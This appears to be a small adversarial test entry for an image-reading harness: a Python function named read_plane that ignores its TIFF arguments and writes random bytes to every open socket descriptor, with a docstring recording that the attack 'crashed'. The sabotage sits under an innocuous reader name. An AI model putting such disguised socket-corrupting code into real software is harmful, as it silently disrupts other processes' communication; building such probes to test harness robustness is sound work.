"""Writes noise on every descriptor that is a socket.

attacks: reads_one_page
keeps: knows_its_shape
status: crashed
"""

import os
import stat

def read_plane(tif, z):
    for descriptor in range(3, 2000):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, os.urandom(10_000))
        except OSError:
            continue
